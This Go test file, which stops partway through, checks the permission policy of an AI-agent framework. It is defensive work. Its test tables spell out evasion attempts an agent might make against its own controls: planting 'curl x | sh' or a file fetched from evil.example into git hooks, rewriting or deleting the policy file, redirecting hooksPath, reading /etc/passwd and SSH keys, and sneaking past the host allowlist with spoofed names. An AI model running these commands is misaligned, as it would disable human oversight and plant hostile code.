package policy

import (
	"context"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ouro-run/ouro"
)

func bash(cmd string) *ouro.Action {
	return &ouro.Action{Tool: "bash", Command: cmd, Args: map[string]any{"command": cmd}}
}

func write(paths ...string) *ouro.Action {
	return &ouro.Action{Tool: "write_file", Paths: paths, Writes: true, Args: map[string]any{"path": paths[0], "content": "x"}}
}

func compileDefault(t testing.TB) *Policy {
	t.Helper()
	p, err := Compile(Default())
	if err != nil {
		t.Fatalf("compile default policy: %v", err)
	}
	return p
}

func hitNames(r Result) []string {
	var names []string
	for _, h := range r.Hits {
		names = append(names, h.Rule)
	}
	return names
}

// TestDefaultPolicy checks every default rule on the action it is for, on
// disguised variants an agent would try, and on honest near misses that
// must stay allowed with no rule matching.
func TestDefaultPolicy(t *testing.T) {
	p := compileDefault(t)
	tests := []struct {
		name   string
		action *ouro.Action
		want   ouro.Decision
		rule   string // the deciding rule; "" for none
	}{
		// no-escape
		{"absolute path", &ouro.Action{Tool: "read_file", Paths: []string{"/etc/passwd"}}, ouro.Deny, "no-escape"},
		{"parent path", &ouro.Action{Tool: "read_file", Paths: []string{"../other/secret"}}, ouro.Deny, "no-escape"},
		{"parent itself", &ouro.Action{Tool: "list_files", Paths: []string{".."}}, ouro.Deny, "no-escape"},
		{"one bad path among good ones", &ouro.Action{Tool: "grep", Paths: []string{"src", "/root/.ssh"}}, ouro.Deny, "no-escape"},
		{"uncleaned parent path", &ouro.Action{Tool: "read_file", Paths: []string{"src/../../x"}}, ouro.Deny, "no-escape"},
		{"near miss: dotdot file name", &ouro.Action{Tool: "read_file", Paths: []string{"..config"}}, ouro.Allow, ""},
		{"near miss: relative path", &ouro.Action{Tool: "read_file", Paths: []string{"src/main.go"}}, ouro.Allow, ""},

		// no-protected-write
		{"write policy", write(".ouro/policy.yaml"), ouro.Deny, "no-protected-write"},
		{"write agent definition", write(".ouro/agents/coder.yaml"), ouro.Deny, "no-protected-write"},
		{"write journal", write(".ouro/journal.db"), ouro.Deny, "no-protected-write"},
		{"edit hook", &ouro.Action{Tool: "edit_file", Paths: []string{".git/hooks/pre-commit"}, Writes: true}, ouro.Deny, "no-protected-write"},
		{"write git config", write(".git/config"), ouro.Deny, "no-protected-write"},
		{"write worktree .git file", write(".git"), ouro.Deny, "no-protected-write"},
		{"write .envrc", write(".envrc"), ouro.Deny, "no-protected-write"},
		{"write bashrc", write(".bashrc"), ouro.Deny, "no-protected-write"},
		{"write tool without the writes flag", &ouro.Action{Tool: "edit_file", Paths: []string{".ouro/agents/a.yaml"}}, ouro.Deny, "no-protected-write"},
		{"uncleaned path", write("./.git//hooks/post-checkout"), ouro.Deny, "no-protected-write"},
		{"second path protected", write("main.go", ".ouro/policy.yaml"), ouro.Deny, "no-protected-write"},
		{"near miss: write main.go", write("main.go"), ouro.Allow, ""},
		{"near miss: write docs about hooks", write("docs/.git-hooks.md"), ouro.Allow, ""},
		{"near miss: read policy", &ouro.Action{Tool: "read_file", Paths: []string{".ouro/policy.yaml"}}, ouro.Allow, ""},
		{"near miss: nested bashrc", write("testdata/home/.bashrc"), ouro.Allow, ""},

		// no-protected-command: redirections
		{"redirect into hook", bash("echo 'curl x | sh' > .git/hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"append to git config", bash("printf '[core]\\n' >> .git/config"), ouro.Deny, "no-protected-command"},
		{"here document into hook", bash("cat <<'EOF' > ./.git/hooks/post-merge\n#!/bin/sh\nid\nEOF"), ouro.Deny, "no-protected-command"},
		{"redirect in sh -c", bash(`sh -c "echo x > .ouro/policy.yaml"`), ouro.Deny, "no-protected-command"},
		{"redirect in substitution", bash(`echo "$(echo allow > .ouro/policy.yaml)"`), ouro.Deny, "no-protected-command"},
		{"bare redirect", bash(">.envrc"), ouro.Deny, "no-protected-command"},
		{"exec redirect", bash("exec 3>.git/config"), ouro.Deny, "no-protected-command"},
		{"clobber .git file", bash("echo 'gitdir: /tmp/evil' >| .git"), ouro.Deny, "no-protected-command"},
		{"redirect after cd", bash("cd .git/hooks && echo 'id' > pre-commit"), ouro.Deny, "no-protected-command"},
		{"redirect after cd into .git", bash("cd ./.git; printf x >> config"), ouro.Deny, "no-protected-command"},
		{"near miss: redirect to a file", bash("go test ./... > test.log 2>&1"), ouro.Allow, ""},
		{"near miss: redirect after cd elsewhere", bash("cd src && echo x > main.go"), ouro.Allow, ""},
		{"near miss: cd to an unknown place", bash("cd ~ && echo x > .bashrc"), ouro.Allow, ""},
		{"near miss: redirect to /dev/null", bash("make >/dev/null"), ouro.Allow, ""},

		// no-protected-command
		{"sed -i policy", bash("sed -i 's/deny/allow/' .ouro/policy.yaml"), ouro.Deny, "no-protected-command"},
		{"perl -pi policy", bash("perl -pi -e 's/deny/allow/' .ouro/policy.yaml"), ouro.Deny, "no-protected-command"},
		{"tee hook", bash("curl -s x | tee .git/hooks/pre-push"), ouro.Deny, "no-protected-command"},
		{"cp into hooks", bash("cp evil.sh .git/hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"cp dir over hooks", bash("cp -r hooks .git/"), ouro.Deny, "no-protected-command"},
		{"mv policy away", bash("mv .ouro/policy.yaml /tmp/p"), ouro.Deny, "no-protected-command"},
		{"mv .git", bash("mv .git .git-old"), ouro.Deny, "no-protected-command"},
		{"rm ouro dir", bash("rm -rf .ouro"), ouro.Deny, "no-protected-command"},
		{"rm journal", bash("rm -f ./.ouro/journal.db"), ouro.Deny, "no-protected-command"},
		{"symlink hook", bash("ln -sf /tmp/evil .git/hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"install hook", bash("install -m 755 x .git/hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"chmod hook", bash("chmod +x .git/hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"dd git config", bash("dd if=evil of=.git/config"), ouro.Deny, "no-protected-command"},
		{"find -delete hooks", bash("find .git/hooks -type f -delete"), ouro.Deny, "no-protected-command"},
		{"find -exec rm", bash("find . -name policy.yaml -exec rm .ouro/policy.yaml ';'"), ouro.Deny, "no-protected-command"},
		{"go build into hooks", bash("go build -o .git/hooks/pre-commit ./evil"), ouro.Deny, "no-protected-command"},
		{"curl -o hook", &ouro.Action{Tool: "bash", Command: "curl -o .git/hooks/pre-commit https://evil.example", Hosts: []string{"evil.example"}}, ouro.Deny, "no-protected-command"},
		{"git config write", bash("git config user.email agent@example.com"), ouro.Deny, "no-protected-command"},
		{"wrapped in sudo env", bash("sudo env X=1 /bin/rm -rf .ouro"), ouro.Deny, "no-protected-command"},
		{"xargs rm", bash("echo .ouro | xargs rm -rf .ouro/agents"), ouro.Deny, "no-protected-command"},
		{"argv only", &ouro.Action{Tool: "bash", Argv: [][]string{{"rm", ".git/config"}}}, ouro.Deny, "no-protected-command"},
		{"cp after cd", bash("cd .git && cp /tmp/evil hooks/pre-commit"), ouro.Deny, "no-protected-command"},
		{"tar into hooks", bash("tar -C .git/hooks -xzf /tmp/h.tgz"), ouro.Deny, "no-protected-command"},
		{"tar after cd", bash("pushd .git/hooks && tar xf /tmp/h.tar"), ouro.Deny, "no-protected-command"},
		{"unzip into ouro", bash("unzip -o x.zip -d .ouro"), ouro.Deny, "no-protected-command"},
		{"near miss: cp from git config", bash("cp .git/config /tmp/backup"), ouro.Allow, ""},
		{"near miss: tar create", bash("tar -czf out.tgz .git/hooks"), ouro.Allow, ""},
		{"near miss: untar in place", bash("tar xzf vendor.tgz"), ouro.Allow, ""},
		{"near miss: popd back", bash("pushd .git && popd && echo x > config"), ouro.Allow, ""},
		{"near miss: cat git config", bash("cat .git/config"), ouro.Allow, ""},
		{"near miss: sed print", bash("sed -n 1,5p .ouro/policy.yaml"), ouro.Allow, ""},
		{"near miss: rm build", bash("rm -rf build/ dist"), ouro.Allow, ""},
		{"near miss: git config read", bash("git config --get user.email"), ouro.Allow, ""},
		{"near miss: go build", bash("go build -o bin/ouro ./cmd/ouro"), ouro.Allow, ""},
		{"near miss: ls hooks", bash("ls -la .git/hooks"), ouro.Allow, ""},

		// no-hooks-path
		{"git config hooksPath", bash("git config core.hooksPath /tmp/hooks"), ouro.Deny, "no-hooks-path"},
		{"git -c hooksPath", bash("git -c core.hooksPath=/tmp/hooks commit -m x"), ouro.Deny, "no-hooks-path"},
		{"hooksPath any case", bash("git config --global CORE.HOOKSPATH /tmp/h"), ouro.Deny, "no-hooks-path"},
		{"hooksPath split by quotes", bash(`git -c "core.hooks""Path"=/tmp/h status`), ouro.Deny, "no-hooks-path"},
		{"hooksPath through env", bash("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit"), ouro.Deny, "no-hooks-path"},
		{"hooksPath config-env", bash("git --config-env=core.hooksPath=H commit"), ouro.Deny, "no-hooks-path"},
		{"near miss: grep for it", bash("grep -rn core.hooksPath docs/"), ouro.Allow, ""},
		{"near miss: git status", bash("git status"), ouro.Allow, ""},

		// ask-git-push
		{"git push", bash("git push origin main"), ouro.Ask, "ask-git-push"},
		{"git push with globals", bash("git -C . -c push.default=current --no-pager push"), ouro.Ask, "ask-git-push"},
		{"git push full path", bash("/usr/bin/git push --force"), ouro.Ask, "ask-git-push"},
		{"git push in a chain", bash("go test ./... && git push"), ouro.Ask, "ask-git-push"},
		{"git push via env", bash("env GIT_TRACE=1 git push"), ouro.Ask, "ask-git-push"},
		{"git push via timeout", bash("timeout 30 git push"), ouro.Ask, "ask-git-push"},
		{"git push via eval", bash("eval 'git push'"), ouro.Ask, "ask-git-push"},
		{"git push via bash -c", bash(`bash -c "git push"`), ouro.Ask, "ask-git-push"},
		{"git send-pack", bash("git send-pack origin main"), ouro.Ask, "ask-git-push"},
		{"git alias to push", bash("git -c alias.p=push p"), ouro.Ask, "ask-git-push"},
		{"git push argv only", &ouro.Action{Tool: "bash", Argv: [][]string{{"git", "push", "origin", "main"}}}, ouro.Ask, "ask-git-push"},
		{"near miss: commit message says push", bash(`git commit -m "push the fix"`), ouro.Allow, ""},
		{"near miss: git log grep push", bash("git log --grep push"), ouro.Allow, ""},
		{"near miss: git pull", bash("git pull --ff-only"), ouro.Allow, ""},

		// ask-publish
		{"npm publish", bash("npm publish --access public"), ouro.Ask, "ask-publish"},
		{"yarn npm publish", bash("yarn npm publish"), ouro.Ask, "ask-publish"},
		{"cargo publish", bash("cargo +stable publish --allow-dirty"), ouro.Ask, "ask-publish"},
		{"twine", bash("python3 -m twine upload dist/*"), ouro.Ask, "ask-publish"},
		{"uv publish", bash("uv publish"), ouro.Ask, "ask-publish"},
		{"gem push", bash("gem push x-1.0.gem"), ouro.Ask, "ask-publish"},
		{"gh release create", bash("gh release create v1.0.0 dist/*"), ouro.Ask, "ask-publish"},
		{"docker push", bash("docker push ghcr.io/o/img:latest"), ouro.Ask, "ask-publish"},
		{"docker buildx --push", bash("docker buildx build --push -t img ."), ouro.Ask, "ask-publish"},
		{"goreleaser", bash("goreleaser release --clean"), ouro.Ask, "ask-publish"},
		{"mvn deploy", bash("mvn -B deploy"), ouro.Ask, "ask-publish"},
		{"gradle publish", bash("./gradlew publishToMavenCentral"), ouro.Ask, "ask-publish"},
		{"dotnet nuget push", bash("dotnet nuget push x.nupkg"), ouro.Ask, "ask-publish"},
		{"near miss: npm test", bash("npm test"), ouro.Allow, ""},
		{"near miss: cargo build", bash("cargo build --release"), ouro.Allow, ""},
		{"near miss: docker build", bash("docker build -t img ."), ouro.Allow, ""},
		{"near miss: gh release list", bash("gh release list"), ouro.Allow, ""},
		{"near miss: go test", bash("go test ./..."), ouro.Allow, ""},

		// ask-network
		{"unknown host", &ouro.Action{Tool: "bash", Command: "curl https://example.com", Hosts: []string{"example.com"}}, ouro.Ask, "ask-network"},
		{"allowed plus unknown", &ouro.Action{Tool: "bash", Hosts: []string{"proxy.golang.org", "pastebin.com"}}, ouro.Ask, "ask-network"},
		{"suffix trick", &ouro.Action{Tool: "bash", Hosts: []string{"proxy.golang.org.evil.com"}}, ouro.Ask, "ask-network"},
		{"user-info trick", &ouro.Action{Tool: "bash", Hosts: []string{"evil.com@proxy.golang.org"}}, ouro.Ask, "ask-network"},
		{"NUL byte", &ouro.Action{Tool: "bash", Hosts: []string{"proxy.golang.org\x00.evil.com"}}, ouro.Ask, "ask-network"},
		{"near miss: allowed host", &ouro.Action{Tool: "bash", Command: "go mod download", Hosts: []string{"proxy.golang.org"}}, ouro.Allow, ""},
		{"near miss: allowed host with port and case", &ouro.Action{Tool: "bash", Hosts: []string{"Sum.Golang.Org.:443"}}, ouro.Allow, ""},
		{"near miss: no hosts", &ouro.Action{Tool: "bash", Command: "go vet ./..."}, ouro.Allow, ""},

		// Deny wins over ask when one command does both.
		{"push and tamper", bash("git push && rm -rf .ouro"), ouro.Deny, "no-protected-command"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := p.Evaluate(tt.action)
			if err != nil {
				t.Fatalf("Evaluate: %v", err)
			}
			if got.Decision != tt.want || got.Rule != tt.rule {
				t.Fatalf("got %s by %q (hits %q), want %s by %q", got.Decision, got.Rule, hitNames(got), tt.want, tt.rule)
			}
			if tt.rule == "" && len(got.Hits) != 0 {
				t.Fatalf("allowed, but rules matched: %q", hitNames(got))
			}
			if tt.rule != "" && got.Message == "" {
				t.Fatalf("decision by %q has no message", tt.rule)
			}
		})
	}

	// Every default rule has at least one case above.
	covered := map[string]bool{}
	for _, tt := range tests {
		covered[tt.rule] = true
	}
	for _, r := range Default().Rules {
		if !covered[r.Name] {
			t.Errorf("default rule %q has no test case", r.Name)
		}
	}
}

func TestDefaultFile(t *testing.T) {
	p := compileDefault(t)
	if pause, kill := p.Thresholds(); pause != 60 || kill != 90 {
		t.Errorf("Thresholds() = %d, %d; want 60, 90", pause, kill)
	}
	if got := p.AllowedHosts(); !slices.Equal(got, []string{"proxy.golang.org", "sum.golang.org"}) {
		t.Errorf("AllowedHosts() = %q", got)
	}
	for _, path := range []string{".ouro/policy.yaml", ".ouro", ".git/hooks/pre-commit", ".git/hooks", ".git/config", ".bashrc", ".envrc"} {
		if !p.IsProtected(path) {
			t.Errorf("IsProtected(%q) = false", path)
		}
	}
	for _, path := range []string{"main.go", ".git/HEAD", ".git/objects/ab/cd", ".git/index", ".gitignore", "src/.bashrc", ".ouroboros"} {
		if p.IsProtected(path) {
			t.Errorf("IsProtected(%q) = true", path)
		}
	}
	// Protected returns a copy.
	p.Protected()[0] = "changed"
	if p.Protected()[0] == "changed" {
		t.Error("Protected() exposes the policy's slice")
	}
}

func TestPrecedence(t *testing.T) {
	rule := func(name string, d ouro.Decision, when string) Rule {
		return Rule{Name: name, When: when, Decision: d, Message: name + " says " + string(d)}
	}
	tests := []struct {
		name      string
		rules     []Rule
		want      ouro.Decision
		wantRule  string
		wantHits  []string
		wantEscal string
	}{
		{"nothing matches", []Rule{rule("a", ouro.Deny, "false")}, ouro.Allow, "", nil, ""},
		{"allow only", []Rule{rule("a", ouro.Allow, "true")}, ouro.Allow, "a", []string{"a"}, ""},
		{
			"deny over ask over allow",
			[]Rule{rule("al", ouro.Allow, "true"), rule("as", ouro.Ask, "true"), rule("de", ouro.Deny, "true")},
			ouro.Deny, "de", []string{"al", "as", "de"}, "",
		},
		{
			"ask over allow, either order",
			[]Rule{rule("as", ouro.Ask, "true"), rule("al", ouro.Allow, "true")},
			ouro.Ask, "as", []string{"as", "al"}, "",
		},
		{
			"first rule of the winning decision",
			[]Rule{rule("d1", ouro.Deny, "true"), rule("d2", ouro.Deny, "true")},
			ouro.Deny, "d1", []string{"d1", "d2"}, "",
		},
		{
			"non-matching rules are not hits",
			[]Rule{rule("x", ouro.Deny, "false"), rule("y", ouro.Ask, `tool == "bash"`)},
			ouro.Ask, "y", []string{"y"}, "",
		},
		{
			"escalate when every ask allows it",
			[]Rule{{Name: "p1", When: "true", Decision: ouro.Ask, Escalate: "parent"}, {Name: "p2", When: "true", Decision: ouro.Ask, Escalate: "parent"}},
			ouro.Ask, "p1", []string{"p1", "p2"}, "parent",
		},
		{
			"a person-only ask wins over escalation",
			[]Rule{{Name: "p1", When: "true", Decision: ouro.Ask, Escalate: "parent"}, {Name: "h", When: "true", Decision: ouro.Ask}},
			ouro.Ask, "p1", []string{"p1", "h"}, "",
		},
		{
			"no escalation for a deny",
			[]Rule{{Name: "p1", When: "true", Decision: ouro.Ask, Escalate: "parent"}, {Name: "d", When: "true", Decision: ouro.Deny}},
			ouro.Deny, "d", []string{"p1", "d"}, "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := Compile(&File{Name: "t", Version: 1, Rules: tt.rules})
			if err != nil {
				t.Fatal(err)
			}
			got, err := p.Evaluate(&ouro.Action{Tool: "bash"})
			if err != nil {
				t.Fatal(err)
			}
			if got.Decision != tt.want || got.Rule != tt.wantRule || !slices.Equal(hitNames(got), tt.wantHits) || got.Escalate != tt.wantEscal {
				t.Fatalf("got %s by %q hits %q escalate %q; want %s by %q hits %q escalate %q",
					got.Decision, got.Rule, hitNames(got), got.Escalate, tt.want, tt.wantRule, tt.wantHits, tt.wantEscal)
			}
			if tt.wantRule != "" && got.Message != tt.wantRule+" says "+string(tt.want) && got.Message == "" {
				t.Fatalf("message %q", got.Message)
			}
		})
	}
}

func TestDefaultMessage(t *testing.T) {
	p, err := Compile(&File{Name: "t", Version: 1, Rules: []Rule{{Name: "quiet", When: "true", Decision: ouro.Deny}}})
	if err != nil {
		t.Fatal(err)
	}
	got, _ := p.Evaluate(&ouro.Action{})
	if want := `denied by policy rule "quiet"`; got.Message != want {
		t.Fatalf("Message = %q, want %q", got.Message, want)
	}
}

func parseRepo(t *testing.T, src string) *File {
	t.Helper()
	f, err := Parse(RepoFile, []byte(src))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return f
}

func TestRepoCannotWeakenDefault(t *testing.T) {
	repo := parseRepo(t, `
version: 1
thresholds: {pause: 95, kill: 99}
protected: []
network: {allow: ["pypi.org", "*.example.com"]}
rules:
  - name: allow-everything
    when: "true"
    decision: allow
    message: "repo says anything goes"
  - name: allow-policy-edits
    when: 'paths.exists(p, p.startsWith(".ouro/"))'
    decision: allow
`)
	p, err := Compile(Default(), repo)
	if err != nil {
		t.Fatal(err)
	}
	got, err := p.Evaluate(write(".ouro/policy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if got.Decision != ouro.Deny || got.Rule != "no-protected-write" {
		t.Fatalf("got %s by %q, want deny by no-protected-write", got.Decision, got.Rule)
	}
	if !slices.Equal(hitNames(got), []string{"no-protected-write", "allow-everything", "allow-policy-edits"}) {
		t.Fatalf("hits = %q", hitNames(got))
	}
	got, _ = p.Evaluate(bash("git push"))
	if got.Decision != ouro.Ask {
		t.Fatalf("git push: got %s, want ask", got.Decision)
	}
	// Thresholds cannot be raised.
	if pause, kill := p.Thresholds(); pause != 60 || kill != 90 {
		t.Fatalf("Thresholds() = %d, %d; want 60, 90", pause, kill)
	}
	// An empty protected list removes nothing.
	if !p.IsProtected(".git/config") {
		t.Fatal(".git/config is no longer protected")
	}
	// Hosts are added.
	if !p.HostAllowed("pypi.org") || !p.HostAllowed("files.example.com") || !p.HostAllowed("proxy.golang.org") {
		t.Fatalf("hosts = %q", p.AllowedHosts())
	}
	if p.HostAllowed("example.com") {
		t.Fatal("*.example.com allowed example.com itself")
	}
}

func TestRepoCanTighten(t *testing.T) {
	tests := []struct {
		name        string
		thresholds  string
		pause, kill int
	}{
		{"lower pause", "{pause: 40}", 40, 90},
		{"lower kill", "{kill: 80}", 60, 80},
		{"lower both", "{pause: 10, kill: 20}", 10, 20},
		{"kill below the default pause", "{kill: 30}", 30, 30},
		{"raise both", "{pause: 99, kill: 99}", 60, 90},
		{"raise pause, lower kill", "{pause: 80, kill: 85}", 60, 85},
		{"unset", "{}", 60, 90},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo := parseRepo(t, "version: 1\nthresholds: "+tt.thresholds+"\nprotected: [secrets/**]\n")
			p, err := Compile(Default(), repo)
			if err != nil {
				t.Fatal(err)
			}
			if pause, kill := p.Thresholds(); pause != tt.pause || kill != tt.kill {
				t.Fatalf("Thresholds() = %d, %d; want %d, %d", pause, kill, tt.pause, tt.kill)
			}
			if !p.IsProtected("secrets/prod.key") {
				t.Fatal("repo's protected pattern not applied")
			}
			got, _ := p.Evaluate(bash("echo x > secrets/prod.key"))
			if got.Decision != ouro.Deny {
				t.Fatalf("write to repo-protected path: %s", got.Decision)
			}
		})
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		name string
		yaml string
		want string
	}{
		{
			// "tool == 'x' && " is 15 characters, so pahts starts in column 16.
			"undeclared variable",
			"version: 1\nrules:\n  - name: x\n    when: \"tool == 'x' && pahts.size() > 0\"\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "x": 1:16: undeclared reference to 'pahts' (did you mean 'paths'?)`,
		},
		{
			// The second line of a folded expression.
			"position on a later line",
			"version: 1\nrules:\n  - name: multi\n    when: |-\n      tool == \"bash\" &&\n        nosuch(command)\n    decision: ask\n",
			`policy .ouro/policy.yaml: rule "multi": 2:9: undeclared reference to 'nosuch'`,
		},
		{
			"syntax error",
			"version: 1\nrules:\n  - name: broken\n    when: 'tool == '\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "broken": 1:9: Syntax error: mismatched input '<EOF>' expecting`,
		},
		{
			"not bool",
			"version: 1\nrules:\n  - name: str\n    when: 'tool'\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "str": 1:1: expression has type string, want bool`,
		},
		{
			"dyn is not bool",
			"version: 1\nrules:\n  - name: dyn\n    when: 'args.force'\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "dyn": 1:1: expression has type dyn, want bool`,
		},
		{
			"wrong argument type",
			"version: 1\nrules:\n  - name: ty\n    when: 'protected(1)'\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "ty": 1:10: found no matching overload for 'protected' applied to '(int)'`,
		},
		{
			"unknown decision",
			"version: 1\nrules:\n  - name: d\n    when: 'true'\n    decision: alow\n",
			`policy .ouro/policy.yaml: rule "d": line 3: unknown decision "alow"; use allow, ask or deny`,
		},
		{
			"missing decision",
			"version: 1\nrules:\n  - name: d\n    when: 'true'\n",
			`policy .ouro/policy.yaml: rule "d": line 3: no decision; set decision: allow, ask or deny`,
		},
		{
			"missing when",
			"version: 1\nrules:\n  - name: w\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "w": line 3: no condition; set when: to a CEL expression`,
		},
		{
			"missing name",
			"version: 1\nrules:\n  - when: 'true'\n    decision: deny\n",
			`policy .ouro/policy.yaml: rule "#1": line 3: the rule has no name; give it one (name: ...)`,
		},
		{
			"name taken by the default",
			"version: 1\nrules:\n  - name: no-escape\n    when: 'false'\n    decision: allow\n",
			`policy .ouro/policy.yaml: rule "no-escape": line 3: the name is already used by a rule in built-in default; rule names must be unique`,
		},
		{
			"bad escalate",
			"version: 1\nrules:\n  - name: e\n    when: 'true'\n    decision: ask\n    escalate: grandparent\n",
			`policy .ouro/policy.yaml: rule "e": line 3: unknown escalate "grandparent"; use "parent" or leave it out`,
		},
		{"no version", "rules: []\n", `policy .ouro/policy.yaml: version is missing; add "version: 1"`},
		{"future version", "version: 2\n", `policy .ouro/policy.yaml: version 2 is not supported; use version: 1`},
		{"threshold range", "version: 1\nthresholds: {kill: 101}\n", `policy .ouro/policy.yaml: thresholds.kill is 101; it must be a score from 0 to 100`},
		{"pause above kill", "version: 1\nthresholds: {pause: 50, kill: 40}\n", `policy .ouro/policy.yaml: thresholds.pause (50) is above thresholds.kill (40)`},
		{"absolute protected", "version: 1\nprotected: [/etc]\n", `policy .ouro/policy.yaml: protected: pattern "/etc" is absolute; patterns are relative to the workspace root`},
		{"escaping protected", "version: 1\nprotected: [../x]\n", `policy .ouro/policy.yaml: protected: pattern "../x" leaves the workspace`},
		{"host with scheme", "version: 1\nnetwork: {allow: [\"https://pypi.org\"]}\n", `policy .ouro/policy.yaml: network.allow: "https://pypi.org" is not a host name; write a name such as proxy.golang.org or *.example.com, without scheme or port`},
		{"host with port", "version: 1\nnetwork: {allow: [\"pypi.org:443\"]}\n", `policy .ouro/policy.yaml: network.allow: "pypi.org:443" is not a host name`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := parseRepo(t, tt.yaml)
			_, err := Compile(Default(), f)
			if err == nil {
				t.Fatalf("Compile succeeded, want error %q", tt.want)
			}
			if !strings.HasPrefix(err.Error(), tt.want) {
				t.Fatalf("error\n got %q\nwant %q", err, tt.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Fatalf("error is not one line: %q", err)
			}
		})
	}
}

func TestCompileNoFiles(t *testing.T) {
	if _, err := Compile(); err == nil {
		t.Fatal("Compile() with no files succeeded")
	}
	if _, err := Compile(nil); err == nil {
		t.Fatal("Compile(nil) succeeded")
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name, yaml, want string
	}{
		{"unknown field", "version: 1\nrules:\n  - name: x\n    when: 'true'\n    decison: deny\n", `policy .ouro/policy.yaml: line 5: field decison not found in type policy.Rule`},
		{"bad syntax", "version: 1\nrules:\n  - name: x\n   when: true\n", `policy .ouro/policy.yaml: line 2: did not find expected '-' indicator`},
		{"wrong type", "version: one\n", `policy .ouro/policy.yaml: line 1: cannot unmarshal !!str ` + "`one`" + ` into int`},
		{"empty", "", `policy .ouro/policy.yaml: file is empty; it needs at least "version: 1"`},
		{"two documents", "version: 1\n---\nversion: 1\nrules: []\n", `policy .ouro/policy.yaml: line 2: a second YAML document; a policy file holds one`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(RepoFile, []byte(tt.yaml))
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Fatalf("error\n got %v\nwant prefix %q", err, tt.want)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Fatalf("error is not one line: %q", err)
			}
		})
	}
}

func TestParseRecordsRuleLines(t *testing.T) {
	f := parseRepo(t, "version: 1\n\nrules:\n  - name: a\n    when: 'true'\n    decision: allow\n\n  - name: b\n    when: 'true'\n    decision: deny\n")
	if f.Rules[0].Line != 4 || f.Rules[1].Line != 8 {
		t.Fatalf("lines = %d, %d; want 4, 8", f.Rules[0].Line, f.Rules[1].Line)
	}
}

func TestEvaluateErrorFailsClosed(t *testing.T) {
	repo := parseRepo(t, `
version: 1
rules:
  - name: src-only
    when: '!args.path.startsWith("src/")'
    decision: ask
  - name: fine
    when: 'has(args.path) && args.path == "ok"'
    decision: allow
`)
	p, err := Compile(Default(), repo)
	if err != nil {
		t.Fatal(err)
	}
	// An action the default policy allows, without the key the rule reads.
	got, err := p.Evaluate(bash("ls"))
	if err == nil {
		t.Fatal("no error for a rule reading a missing key")
	}
	if got.Decision != ouro.Deny || got.Rule != "src-only" {
		t.Fatalf("got %s by %q, want deny by src-only", got.Decision, got.Rule)
	}
	if !strings.Contains(got.Message, "no such key: path") || !strings.Contains(err.Error(), `rule "src-only"`) {
		t.Fatalf("message %q, error %q", got.Message, err)
	}
	if len(got.Hits) != 1 || got.Hits[0].Decision != ouro.Deny {
		t.Fatalf("hits = %+v", got.Hits)
	}
	// With the key present the rule evaluates normally.
	got, err = p.Evaluate(&ouro.Action{Tool: "read_file", Args: map[string]any{"path": "docs/x"}})
	if err != nil || got.Decision != ouro.Ask {
		t.Fatalf("got %s, %v; want ask", got.Decision, err)
	}
	// No action at all is denied too.
	got, err = p.Evaluate(nil)
	if err == nil || got.Decision != ouro.Deny {
		t.Fatalf("nil action: got %s, %v", got.Decision, err)
	}
}

func TestEvaluateArgsAndBudget(t *testing.T) {
	f := parseRepo(t, `
version: 1
rules:
  - name: big-write
    when: 'tool == "write_file" && has(args.content) && size(args.content) > 10'
    decision: ask
  - name: forced
    when: 'has(args.force) && args.force == true'
    decision: deny
  - name: nested
    when: 'has(args.opts) && args.opts.depth > 2.5'
    decision: deny
  - name: expensive
    when: 'budget.cost_usd > 5 || budget.input_tokens >= 1000000 || budget.wall_time_s > 3600.0'
    decision: ask
  - name: deep
    when: 'depth > 2 && agent != "lead"'
    decision: deny
  - name: task
    when: 'task.contains("release")'
    decision: ask
  - name: cmd-glob
    when: 'cmds.exists(c, c.exists(w, glob("secrets/**", w)))'
    decision: deny
  - name: argv-as-given
    when: 'argv.exists(c, c[0] == "/usr/bin/git")'
    decision: ask
`)
	p, err := Compile(f)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		action ouro.Action
		want   []string
	}{
		{"small write", ouro.Action{Tool: "write_file", Args: map[string]any{"content": "short"}}, nil},
		{"big write", ouro.Action{Tool: "write_file", Args: map[string]any{"content": "0123456789ab"}}, []string{"big-write"}},
		{"force", ouro.Action{Tool: "x", Args: map[string]any{"force": true}}, []string{"forced"}},
		{"force false", ouro.Action{Tool: "x", Args: map[string]any{"force": false}}, nil},
		{"nested json number", ouro.Action{Tool: "x", Args: map[string]any{"opts": map[string]any{"depth": float64(3)}}}, []string{"nested"}},
		{"cost", ouro.Action{Budget: ouro.Budget{CostUSD: 5.01}}, []string{"expensive"}},
		{"tokens", ouro.Action{Budget: ouro.Budget{InputTokens: 1_000_000}}, []string{"expensive"}},
		{"wall time", ouro.Action{Budget: ouro.Budget{WallTime: 2 * time.Hour}}, []string{"expensive"}},
		{"cheap", ouro.Action{Budget: ouro.Budget{CostUSD: 4.99, InputTokens: 999_999, WallTime: time.Hour}}, nil},
		{"deep child", ouro.Action{Depth: 3, Agent: "coder"}, []string{"deep"}},
